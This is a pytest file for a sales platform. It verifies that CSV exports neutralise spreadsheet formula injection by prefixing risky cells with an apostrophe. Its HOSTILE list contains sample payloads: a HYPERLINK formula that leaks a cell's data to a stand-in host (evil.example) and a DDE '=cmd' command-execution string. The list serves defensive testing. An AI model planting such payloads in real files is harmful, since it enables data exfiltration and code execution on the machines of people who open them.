"""Formula cells (OWASP CSV injection): every CSV the platform writes for people is inert in a
spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import shutil
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import create_engine, insert

from sales_platform.core.csvsafe import safe_cell
from sales_platform.core.exports import export_aggregates
from sales_platform.core.warehouse.tables import agg_sales_by_product, create_all

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+cmd",
           "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_a_spreadsheet_would_run_is_made_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -2.5, Decimal("-12.30"), 0, None, "Lamp", "a=b", "-17", "+1.5e3",
                                   date(2024, 3, 1)])
def test_numbers_dates_and_plain_text_are_unchanged(value):
    assert safe_cell(value) == value


def test_the_yearly_export_of_product_names_is_inert(tmp_path: Path):
    engine = create_engine(f"sqlite:///{tmp_path / 'w.db'}")
    create_all(engine)
    with engine.begin() as conn:
        conn.execute(insert(agg_sales_by_product), [
            {"sale_date": date(2024, 3, 1), "product_token": f"Atok{i}", "product_name": name,
             "category": "=cmd|' /C calc'!A0", "transactions": 1, "total_quantity": 2,
             "total_revenue": Decimal("-12.50"), "refreshed_at": datetime(2024, 3, 2)}
            for i, name in enumerate(HOSTILE)])
    out = tmp_path / "blob"

    def put_file(name: str, path: Path) -> str:
        target = out / name
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(path, target)
        return str(target)

    export_aggregates(engine, put_file, datetime(2024, 3, 3), only_changed=False)
    text = (out / "exports" / "agg_sales_by_product" / "2024.csv").read_bytes().decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(r["product_name"] for r in rows) == sorted("'" + h for h in HOSTILE)
    assert {r["category"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    assert {r["total_revenue"] for r in rows} == {"-12.50"}  # a number: no apostrophe


def test_the_lineage_tables_are_inert():
    import pandas as pd

    from sales_platform.defs.governance.lineage import LineageTables, table_files

    frame = pd.DataFrame({"qualified_name": ["=1+1"], "name": ["@x"], "type": ["table"],
                          "rows": [-3]})
    edges = pd.DataFrame({"process_qualified_name": ["=p"], "source_qualified_name": ["=1+1"],
                          "target_qualified_name": ["+t"]})
    tables = LineageTables(frame, frame.copy(), edges)
    files = table_files(tables)
    datasets = next(v for k, v in files.items() if k.endswith(".csv")).decode()
    assert "'=1+1" in datasets and "'@x" in datasets and ",-3" in datasets
